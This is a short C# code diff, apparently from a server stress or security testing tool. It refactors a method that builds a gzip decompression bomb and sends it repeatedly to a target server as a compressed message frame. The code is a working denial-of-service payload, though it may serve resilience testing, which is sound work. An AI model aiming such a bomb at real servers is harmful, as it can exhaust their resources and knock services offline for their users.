@@ -16,6 +16,12 @@ internal static class Messages
 
     public static Task GzipBombAsync(Target target, CancellationToken cancellationToken)
     {
+        var bomb = Bomb();
+        return SendAsync(target, "gzip", Frame.Message(isCompressed: true, (uint)bomb.Length, bomb), cancellationToken);
+    }
+
+    private static byte[] Bomb()
+    {
         using var compressed = new MemoryStream();
         using (var gzip = new GZipStream(compressed, CompressionLevel.Fastest, leaveOpen: true))
         {
@@ -24,10 +30,7 @@ internal static class Messages
                 gzip.Write(zeros);
         }
 
-        var bomb = compressed.ToArray();
-
-        // What the server takes of one message in the first place.
-        return SendAsync(target, "gzip", Frame.Message(isCompressed: true, (uint)bomb.Length, bomb), cancellationToken);
+        return compressed.ToArray();
     }
 
     private static Task SendAsync(Target target, string? encoding, byte[] message, CancellationToken cancellationToken) => target.RepeatAsync(
